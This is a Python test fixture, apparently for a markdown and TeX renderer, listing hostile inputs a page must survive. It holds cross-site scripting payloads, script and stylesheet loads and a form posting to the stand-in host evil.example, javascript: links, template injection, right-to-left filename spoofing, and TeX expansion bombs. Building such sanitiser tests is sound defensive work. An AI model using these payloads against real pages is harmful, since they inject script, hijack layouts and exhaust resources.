"""Texts that a page must survive: nothing in them may run, load, link, cover the page or push its layout apart.

Every text that could announce itself would do so through `window.__pwned` or a request to evil.example.
"""

from __future__ import annotations

CORPUS: dict[str, str] = {
    "script": "<script>window.__pwned = 1</script><script src=//evil.example/x.js></script>",
    "handlers": "<img src=x onerror='window.__pwned=2'><svg onload='window.__pwned=3'>"
    "<details open ontoggle='window.__pwned=4'>x</details>",
    "iframe": "<iframe srcdoc=\"<script>parent.__pwned=5</script>\"></iframe><object data='https://evil.example/o'></object>",
    "remote images": "![a](https://evil.example/a.png) ![b][r] <img src='https://evil.example/c.png'>\n\n"
    "[r]: https://evil.example/b.png",
    "data image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9J3dpbmRvdy5fX3B3bmVkPTYnPg==)",
    "style": "<style>*{display:none!important}</style><link rel=stylesheet href=https://evil.example/x.css>",
    "overlay": '<div style="position:fixed;inset:0;z-index:99999;background:red">covered</div>',
    "form": "<form action='https://evil.example/f'><input name=a autofocus onfocus='window.__pwned=7'>"
    "<button>Continue</button></form>",
    "ids": '<p id="label-page">x</p><a name="al">y</a>',
    "javascript link": "[click](javascript:window.__pwned=8) <javascript:alert(1)> "
    "[data](data:text/html,<script>window.__pwned=9</script>)",
    "entity tricks": "&lt;script&gt;window.__pwned=10&lt;/script&gt; &#x3c;img src=x onerror=window.__pwned=11&#x3e; "
    "[a](&#x6a;avascript:window.__pwned=12)",
    "attribute break": '[a](https://evil.example/"onmouseover="window.__pwned=13) ![" onerror="window.__pwned=14](x)',
    "fence language": '```"><script>window.__pwned=15</script>\ncode\n```\n\n``` js onload=x\ncode\n```',
    "table": "| <b>a</b> | `b` |\n|:-:|--:|\n| ![x](https://evil.example/t.png) | <script>window.__pwned=16</script> |",
    "template": "${window.__pwned=17} {{constructor.constructor('window.__pwned=18')()}} @children",
    "rtl": "safe \u202e gnp.exe \u202c \u2066 isolated \u2069 \u200f right to left",
    "zalgo": "Z" + "\u0351\u0343\u036b\u0368" * 400,
    "long line": "x" * 100_000,
    "1 MB line": "y" * 1_000_000,
    "long word in a table": "| a |\n|---|\n| " + "w" * 20_000 + " |",
    "tex link": r"$\href{javascript:window.__pwned=19}{x}$ $\url{https://evil.example}$ $\includegraphics{https://evil.example/i.png}$",
    "tex html": r"$\htmlId{label-page}{x}$ $\htmlStyle{position:fixed}{x}$ $\htmlData{a=b}{x}$",
    "tex bomb": r"$\def\a{\b\b\b\b}\def\b{\c\c\c\c}\def\c{\d\d\d\d}\def\d{xxxx}\a\a\a\a$ $\def\x{\x\x}\x$",
    "tex size": r"$\rule{9999em}{9999em}$ $\kern-9999em x$ $\raisebox{9999em}{x}$ $$\hspace{99999em}x$$",
    "tex deep": "$" + r"\frac{1}{" * 300 + "x" + "}" * 300 + "$",
    "many formulas": "$x$ " * 6_000,
    "comment": "<!-- a --> <!DOCTYPE html> <?php x ?> <![CDATA[x]]>",
    "nul": "a\0b <scr\0ipt>window.__pwned=20</scr\0ipt>",
    "empty": "",
    "blank": " \n\t ",
    "deep quotes": "> " * 300 + "x",
}
